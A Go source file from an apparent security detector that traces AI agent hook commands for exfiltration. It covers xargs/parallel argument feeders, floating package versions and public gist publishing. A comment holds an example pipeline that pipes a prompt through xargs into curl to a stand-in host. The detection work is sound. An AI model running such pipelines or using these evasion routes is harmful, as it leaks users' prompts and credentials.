package detect

// exfil27: what a hook's command feeds another command through an
// argument feeder (docs/dev/exfil27-misses.md, class K3), and a hook that
// installs and runs a package whose version floats (K2).
//
// A feeder (xargs, GNU parallel: shell-argument-feeder,
// rules/agent-exfil27.rules) reads its standard input and runs the
// command written after its options with what it read as arguments: in
// place of a replacement string (-I{}) or after the last operand. The
// flow read the feeder as a filter, so "jq -r .prompt | xargs -I{} curl
// 'https://host/?q={}'" sent nothing: the command it runs is now read
// with the standard input as the value of a variable of the flow's own
// (exfil27FeedVar) written where the items go.

import "strings"

var (
	// wsExfil27Feeder: programs that run a command with the lines of
	// their standard input as its arguments.
	wsExfil27Feeder = newWordSet("shell-argument-feeder", false)
	// wsExfil27FeedReplace: a feeder's options whose value is the
	// replacement string the items take the place of.
	wsExfil27FeedReplace = newWordSet("shell-feeder-replace-flag", false)
	// wsExfil27FeedValue: a feeder's other options that take a value as
	// the next word.
	wsExfil27FeedValue = newWordSet("shell-feeder-value-flag", false)
	// wsExfil27FeedDefault: feeders whose replacement string is the
	// default one ({}) without an option (parallel); and the options
	// that set the default one (xargs -i).
	wsExfil27FeedDefault = newWordSet("shell-feeder-default-replace", false)
	// wsExfil27FloatingTag: a package version's tags that name no
	// version but whatever the publisher marks next (npm's dist-tags,
	// a branch of a git source).
	wsExfil27FloatingTag = newWordSet("package-floating-tag", false)
	// wsExfil27IndexFlag: a package manager's options whose value is
	// the index it installs from, and those that drop the check of
	// that index's certificate.
	wsExfil27IndexFlag = newWordSet("package-index-flag", false)
	wsExfil27TrustFlag = newWordSet("package-trust-flag", false)
	// wsShellModuleFlag27: an interpreter's option that runs a module
	// by its name (python -m pip).
	wsShellModuleFlag27 = newWordSet("shell-module-flag", false)
)

// exfil27FeedVar is the flow's own variable that holds what a feeder
// read: a name no script sets (upper case letters and digits, so an
// address written after it, "$F27.zone.example", keeps its host).
const exfil27FeedVar = "EXFIL27FEED"

// exfil27FloatingKind is the kind of a hook's command that installs or
// runs a package whose version floats (exfil27Floating): shown as a
// hook's flow is (soft, high), since a team may pin nothing on purpose.
const exfil27FloatingKind = "floating-package"

func init() {
	hookFlowKinds[exfil27FloatingKind] = true
	hookShellKinds[exfil27FloatingKind] = true
}

// exfil27DefaultReplace is the replacement string of xargs -i and of
// parallel.
const exfil27DefaultReplace = "{}"

// exfil27Feed reads a feeder command c (prog, its operands args) given
// stdin: the command it runs, with the items where they go. ok is false
// when prog is no feeder or names no command.
func (st *shState) exfil27Feed(c *shCommand, prog string, args []shWord, stdin shFlow, outFiles []string) (shFlow, bool) {
	if !wsExfil27Feeder.has(prog) || st.depth > 8 {
		return 0, false
	}
	repl := ""
	if wsExfil27FeedDefault.has(prog) {
		repl = exfil27DefaultReplace
	}
	i := 0
	for i < len(args) && strings.HasPrefix(args[i].lit, "-") {
		l := args[i].lit
		if l == "--" {
			i++
			break
		}
		flag, val, eq := strings.Cut(l, "=")
		switch {
		case wsExfil27FeedDefault.has(flag):
			repl = exfil27DefaultReplace
			if eq && val != "" {
				repl = val
			}
		case wsExfil27FeedReplace.has(flag):
			if eq {
				repl = val
			} else if i+1 < len(args) {
				repl = args[i+1].lit
				i++
			}
		case !strings.HasPrefix(l, "--") && len(l) > 2 && wsExfil27FeedReplace.has(l[:2]):
			repl = l[2:] // -I{}: the value run together with the option
		case wsExfil27FeedValue.has(flag) && !eq && i+1 < len(args):
			i++
		}
		i++
	}
	// The command run: from its name to its last operand (the feeder's
	// own text goes on to the pipe or list operator after it). A feeder
	// with no command (xargs alone runs echo) is a filter.
	if i >= len(args) {
		return 0, false
	}
	last := args[len(args)-1].end
	if args[i].start < c.start || last-c.start > len(c.text) || last < args[i].start {
		return 0, false
	}
	inner := c.text[args[i].start-c.start : last-c.start]
	switch {
	case repl != "":
		// Only where the replacement string stands: without it the
		// command gets none of the items.
		inner = exfil27Replace(inner, repl)
	default:
		inner += ` "${` + exfil27FeedVar + `}"`
	}
	save, saveIn := st.vars[exfil27FeedVar], st.stdin
	st.vars[exfil27FeedVar] = stdin
	st.stdin = 0 // the command run reads no items from the pipe
	n := len(st.hits)
	st.depth++
	out := st.run(parseShell(inner))
	st.depth--
	st.vars[exfil27FeedVar], st.stdin = save, saveIn
	for k := n; k < len(st.hits); k++ {
		st.hits[k].Span = Span{c.start, c.end} // found at the feeder's command
	}
	for _, f := range outFiles {
		st.files[f] |= out
	}
	if len(outFiles) > 0 {
		return 0, true
	}
	return out, true
}

// exfil27Replace writes the feed variable in place of every replacement
// string repl in command text s, quoted as its place needs: inside
// single quotes the quote is closed around it, so that the shell
// reader sees an expansion.
func exfil27Replace(s, repl string) string {
	ref := "${" + exfil27FeedVar + "}"
	var b strings.Builder
	sq, dq := false, false
	for i := 0; i < len(s); {
		if strings.HasPrefix(s[i:], repl) {
			switch {
			case sq:
				b.WriteString(`'"` + ref + `"'`)
			case dq:
				b.WriteString(ref)
			default:
				b.WriteString(`"` + ref + `"`)
			}
			i += len(repl)
			continue
		}
		switch c := s[i]; {
		case c == '\\' && !sq && i+1 < len(s):
			b.WriteString(s[i : i+2])
			i += 2
			continue
		case c == '\'' && !dq:
			sq = !sq
		case c == '"' && !sq:
			dq = !dq
		}
		b.WriteByte(s[i])
		i++
	}
	return b.String()
}

// exfil27Floating: a hook's package manager command (prog, args) that
// installs or runs a package at a version that floats: a floating tag
// (name@latest, a git source's @main), or from an index whose
// certificate it does not check. What the hook runs is then whatever the
// publisher pushed last, at every event. A version written, a lock file
// or a package already installed is none of these.
func exfil27Floating(prog string, args []shWord) bool {
	if wsShellInterpreter.has(prog) && len(args) > 1 && wsShellModuleFlag27.has(args[0].lit) {
		prog, args = strings.ToLower(args[1].lit), args[2:] // python3 -m pip install ...
	}
	if !wsShellPackageRunner.has(prog) {
		return false
	}
	trust, index := false, false
	for i := range args {
		l := strings.ToLower(args[i].lit)
		flag, _, _ := strings.Cut(l, "=")
		if strings.HasPrefix(l, "-") {
			trust = trust || wsExfil27TrustFlag.has(flag)
			index = index || wsExfil27IndexFlag.has(flag)
			continue
		}
		if k := strings.LastIndexByte(l, '@'); k > 0 && wsExfil27FloatingTag.has(l[k+1:]) {
			return true // name@latest, git+https://...@main
		}
	}
	return trust && index
}

var (
	// wsExfil27Publisher: a CLI whose subcommand publishes its operands
	// on a public page of a service (the GitHub CLI's gist create).
	wsExfil27Publisher = newWordSet("shell-public-publisher", false)
	// wsExfil27PublishObject and wsExfil27PublishAct: the subcommand's
	// object and act (gh gist create).
	wsExfil27PublishObject = newWordSet("shell-public-publish-object", false)
	wsExfil27PublishAct    = newWordSet("shell-public-publish-act", false)
	// wsExfil27PublicFlag: the option that makes what is published
	// readable by anyone (gh gist create --public, -p); without it a
	// gist is secret, under the user's own account.
	wsExfil27PublicFlag = newWordSet("shell-public-flag", false)
)

// exfil27Publish reads a command that publishes its operands on a
// public page (gh gist create --public FILE...): a secret or what a
// hook is handed among them is sent away as surely as to an address
// (docs/dev/exfil27-misses.md, K5 and E2). A secret gist, a file of the
// project or text written in the command is none of this.
func (st *shState) exfil27Publish(c *shCommand, prog string, args []shWord, stdin shFlow) {
	if !wsExfil27Publisher.has(prog) || len(args) < 2 || !wsExfil27PublishObject.has(args[0].lit) || !wsExfil27PublishAct.has(args[1].lit) {
		return
	}
	public := false
	var sent shFlow
	for i := 2; i < len(args); i++ {
		a := &args[i]
		flag, _, _ := strings.Cut(a.lit, "=")
		if wsExfil27PublicFlag.has(flag) {
			public = true
			continue
		}
		if a.lit == "-" {
			sent |= stdin
			continue
		}
		if !strings.HasPrefix(a.lit, "-") && (i == 2 || !strings.HasPrefix(args[i-1].lit, "-") || strings.Contains(args[i-1].lit, "=") || wsExfil27PublicFlag.has(args[i-1].lit)) {
			sent |= st.content(a) // an operand: a file published
		}
	}
	switch {
	case !public:
	case sent&flowSecret != 0:
		st.hit(c, "credential-exfiltration")
	case sent&flowInput != 0:
		st.hit(c, "input-egress")
	}
}
